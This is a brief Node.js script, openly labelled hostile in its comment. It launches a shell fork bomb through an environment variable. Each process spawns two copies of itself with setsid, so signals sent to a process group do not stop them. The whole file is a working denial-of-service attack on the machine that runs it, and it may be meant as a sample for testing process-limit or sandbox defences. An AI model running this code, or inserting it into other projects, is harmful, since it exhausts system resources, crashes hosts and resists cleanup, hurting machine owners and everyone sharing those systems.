/** Hostile: multiplies without end, each process in a session of its own, which no signal to a group reaches. */
import { spawn } from 'node:child_process';

const BOMB = 'setsid /bin/sh -c "$BOMB" & setsid /bin/sh -c "$BOMB" & sleep 60';
spawn('/bin/sh', ['-c', BOMB], { stdio: 'ignore', env: { ...process.env, BOMB } });
